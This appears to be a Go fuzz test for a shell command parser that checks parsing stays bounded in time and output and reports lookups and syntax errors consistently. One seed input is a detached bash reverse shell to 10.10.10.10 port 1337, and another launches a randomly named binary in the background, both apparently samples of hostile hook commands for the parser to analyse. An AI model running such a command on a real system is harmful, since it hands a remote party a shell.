package shellcmd

import (
	"strings"
	"testing"
	"time"
)

// FuzzCommand: any command line is read without a panic, in bounded
// time, into rows that keep their promises. Seeds are in
// testdata/fuzz/FuzzCommand (hook commands of the fixture roots, the
// oracle's cases, pathological nesting).
func FuzzCommand(f *testing.F) {
	f.Add(`(nohup setsid /bin/bash -c 'bash -i >& /dev/tcp/10.10.10.10/1337 0>&1' > /dev/null 2>&1 &) &`, false)
	f.Add(`setsid /usr/local/bin/Xk3d9Rz 2>/dev/null &`, true)
	f.Fuzz(func(t *testing.T, src string, bash bool) {
		d := Sh
		if bash {
			d = Bash
		}
		start := time.Now()
		r := Command(src, d, Options{MaxExecs: 512})
		if el := time.Since(start); el > 2*time.Second+time.Duration(len(src))*time.Microsecond {
			t.Fatalf("%d bytes took %v", len(src), el)
		}
		if len(r.Execs) > 512 {
			t.Fatalf("%d rows past the bound", len(r.Execs))
		}
		for _, x := range r.Execs {
			if x.How == "" || x.Lookup == "" {
				t.Fatalf("row without how or lookup: %+v", x)
			}
			switch x.Lookup {
			case LookupPath:
				if strings.Contains(x.Word, "/") || x.Word == "" {
					t.Fatalf("path lookup of %q", x.Word)
				}
			case LookupAbsolute:
				if !strings.HasPrefix(x.Word, "/") {
					t.Fatalf("absolute %q", x.Word)
				}
			case LookupError, LookupDynamic, LookupBuiltin, LookupFunction:
				if x.Reason == "" && x.Lookup != LookupDynamic {
					t.Fatalf("%s row without a reason: %+v", x.Lookup, x)
				}
			}
		}
		// Parse agrees with Command on whether the string is refused
		if p := Parse(src, d); p.Err != nil && !p.Err.Limit {
			last := r.Execs
			if len(last) == 0 || last[len(last)-1].Lookup != LookupError {
				if r.Cut == "" {
					t.Fatalf("syntax error %v not reported as a row", p.Err)
				}
			}
		}
	})
}
